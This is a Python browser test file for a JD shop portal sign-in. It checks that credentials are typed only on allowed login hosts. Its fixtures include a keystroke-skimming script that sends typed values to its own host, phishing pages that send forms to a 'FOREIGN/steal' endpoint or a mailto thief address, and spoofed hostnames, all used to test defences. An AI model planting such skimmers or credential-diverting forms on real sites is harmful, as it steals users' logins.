"""User name and password are typed on the portal's own hosts only, however a page is made; two real hosts look on."""

from __future__ import annotations

import json
from collections.abc import Iterator

import pytest
from pages import Visit, chromium
from pydantic import SecretStr
from two_hosts import Host, serving

from shopdata.config import Shop
from shopdata.platforms.jd.portal import JdPortal
from shopdata.sessions.sign_in import entering

pytestmark = pytest.mark.browser

USERNAME, PASSWORD = "account-of-one", "right-horse-one"
SHOP = Shop(id="one", name="店", platform="jd", username=USERNAME, password=SecretStr(PASSWORD))

#: Tells its own host each thing that is typed, as a page that steals does.
SPY = "<script>addEventListener('input', (e) => fetch('/typed?' + encodeURIComponent(e.target.value)));</script>"
FIELDS = '<input id="loginname" style="width:300px"><input type="password" id="nloginpwd" style="width:300px">'
SUBMIT = '<a href="#" id="loginsubmit">登录</a>'
QUOTE = '"'
#: Lets everybody in.
ENTER = """<script>document.querySelector("#loginsubmit").addEventListener("click", () => {
  document.cookie = "thor=x; path=/";
  location.href = "/jdm/home";
});</script>"""
FORM = f"{FIELDS}{SUBMIT}{ENTER}"
STOLEN = f"<h1>登录</h1>{FIELDS}{SUBMIT}{SPY}"


def srcdoc(page: str) -> str:
    return f'<iframe srcdoc="{page.replace("&", "&amp;").replace(QUOTE, "&quot;")}" width="700" height="300"></iframe>'


#: Pages of the login host; `FOREIGN` is the other host's origin. On these nothing is typed, or nothing is sent.
REFUSED: dict[str, str] = {
    "led elsewhere": "FOREIGN/login",
    "only a foreign frame": '<iframe src="FOREIGN/login" width="700" height="300"></iframe>',
    "a foreign frame within a blank one": (
        "<iframe></iframe><script>const inner = frames[0].document; inner.body.innerHTML = "
        "'<iframe src=\"FOREIGN/login\" width=700 height=300></iframe>';</script>"
    ),
    "a frame of data": f'<iframe src="data:text/html,{FIELDS.replace(QUOTE, "%22")}" width="700"></iframe>',
    "a form that is sent elsewhere": f'<form action="FOREIGN/steal" method="post">{FORM}</form>',
    "by its base": f'<base href="FOREIGN/"><form action="/steal" method="post">{FORM}</form>',
    "by its button": f'<form>{FORM}<button formaction="FOREIGN/steal" formmethod="post">x</button></form>',
    "by a field that is not in it": (
        f'<form id="f" action="FOREIGN/steal"></form><input id="loginname" form="f">'
        f'<input type="password" id="nloginpwd" form="f">{SUBMIT}'
    ),
    "by mail": f'<form action="mailto:thief@example.com">{FORM}</form>',
    "a form that turns when it is filled": (
        f'<form method="post">{FORM}</form><script>const field = document.querySelector("#nloginpwd");'
        'field.addEventListener("input", () => { document.forms[0].action = "FOREIGN/steal"; });</script>'
    ),
    "a page that leaves when it is filled": (
        f"{FORM}<script>document.querySelector('#loginname').addEventListener('input', () => "
        "{ location.href = 'FOREIGN/login'; });</script>"
    ),
    "a window beside it": "<script>open('FOREIGN/login');</script><p>扫码登录</p><iframe src='FOREIGN/login'></iframe>",
}
LANDED: dict[str, str] = {
    "plain": FORM,
    "a form that stays": f'<form action="/login" method="post">{FORM}</form>',
    "a form that a script handles": f'<form action="javascript:void(0)">{FORM}</form>',
    "a frame without an address": srcdoc(FORM.replace("location.href", "top.location.href")),
    "a foreign frame before it": f'<iframe src="FOREIGN/login" width="900" height="500"></iframe>{FORM}',
    "a foreign frame, and the form behind its tab": (
        '<iframe src="FOREIGN/login" width="700" height="300"></iframe><div id="account-login">账号登录</div>'
        f'<div id="box" hidden>{FORM}</div><script>const tab = document.querySelector("#account-login");'
        'tab.addEventListener("click", () => { document.querySelector("#box").hidden = false; });</script>'
    ),
    "a window beside it": f"<script>window.open('FOREIGN/login');</script>{FORM}",
}


@pytest.fixture(scope="module")
def visits() -> Iterator[tuple[dict[str, Visit], Host, Host]]:
    with (
        pytest.MonkeyPatch.context() as patch,
        serving(Host()) as own,
        serving(Host()) as foreign,
        chromium() as browser,
    ):
        # So long it takes until the form of a page that has a tab, too, is there: six pages share one browser.
        patch.setattr(entering, "_SETTLED_SECONDS", 20.0)
        foreign.pages.update({"/login": STOLEN, "/jdm/home": "in"})
        own.pages["/jdm/home"] = "in"
        made = {}
        for number, (name, page) in enumerate([*REFUSED.items(), *((f"well: {n}", p) for n, p in LANDED.items())]):
            path = f"/login{number}"
            own.pages[path] = page.replace("FOREIGN", foreign.origin)
            made[name] = Visit(SHOP, portal_of(own.origin + path))
        port = foreign.origin.rpartition(":")[2]
        foreign.pages["/let-in"] = FORM
        own.pages["/led"] = f"{foreign.origin}/let-in"
        made["let in"] = Visit(SHOP, portal_of(own.origin + "/led", f"127.0.0.1:{port}"))
        browser.sign_in(*made.values())
        yield made, own, foreign


def portal_of(login_url: str, *login_hosts: str) -> JdPortal:
    origin = login_url.rpartition("/")[0]
    return JdPortal(
        login_url=login_url,
        login_hosts=login_hosts,
        report_origin=origin,
        gateway_origin=origin,
        download_hosts=("127.0.0.1",),
        login_timeout_seconds=60,
    )


@pytest.mark.parametrize("name", REFUSED)
def test_it_is_not_typed_and_the_host_and_the_key_are_named(
    visits: tuple[dict[str, Visit], Host, Host], name: str
) -> None:
    made, _, foreign = visits
    end = made[name].end
    assert end.startswith("ForbiddenHostError: shop 'one': the login form leads to a host that is not allowed. Found ")
    host = {"a frame of data": "data:", "by mail": "mailto:"}.get(name, foreign.origin.removeprefix("http://"))
    assert f"Found {host}, expected " in end
    assert "`login_hosts` in portals.yaml" in end


@pytest.mark.parametrize("name", LANDED)
def test_on_the_portals_own_pages_it_is(visits: tuple[dict[str, Visit], Host, Host], name: str) -> None:
    assert visits[0][f"well: {name}"].end == "landed"


def test_a_host_that_is_named_is_trusted(visits: tuple[dict[str, Visit], Host, Host]) -> None:
    assert visits[0]["let in"].end == "landed"


def test_the_other_host_has_heard_nothing(visits: tuple[dict[str, Visit], Host, Host]) -> None:
    _, _, foreign = visits
    heard = json.dumps(foreign.received)
    assert PASSWORD not in heard
    assert USERNAME not in heard


OURS = portal_of("https://passport.shop.jd.com/login/index.action", "passport.jd.com", ".sso.jd.com", "10.0.0.7:8443")


@pytest.mark.parametrize(
    ("url", "is_allowed"),
    [
        ("https://passport.shop.jd.com/anything?x", True),
        ("https://passport.shop.jd.com:443/", True),
        ("https://PASSPORT.shop.jd.com/", True),
        ("https://passport.jd.com/uc/login", True),
        ("https://passport.jd.com:8443/", True),
        ("https://a.sso.jd.com/", True),
        ("https://10.0.0.7:8443/", True),
        ("https://passport.shop.jd.com:8443/", False),
        ("https://10.0.0.7/", False),
        ("http://passport.shop.jd.com/", False),
        ("https://passport.shop.jd.com.evil.example/", False),
        ("https://evilpassport.jd.com/", False),
        ("https://passport.jd.com@evil.example/", False),
        ("https://shop.jd.com/", False),
        ("data:text/html,x", False),
        ("blob:https://passport.jd.com/1", False),
        ("about:blank", False),
        ("file:///etc/passwd", False),
        ("chrome-error://chromewebdata/", False),
        ("", False),
    ],
)
def test_which_pages_are_the_portals(url: str, is_allowed: bool) -> None:
    assert OURS.allows_login(url) is is_allowed


@pytest.mark.parametrize("own", ["http://[::1]:8080", "http://localhost:8080", "http://127.0.0.1:8080"])
def test_on_this_machine_plain_http_is_good_on_its_own_port(own: str) -> None:
    portal = portal_of(f"{own}/login")
    assert portal.allows_login(f"{own}/frame")
    assert not portal.allows_login(f"{own.replace('8080', '8081')}/frame")


def test_the_shipped_hosts_are_those_of_the_sign_in() -> None:
    assert JdPortal.model_fields["login_hosts"].default == ("passport.shop.jd.com", "passport.jd.com")
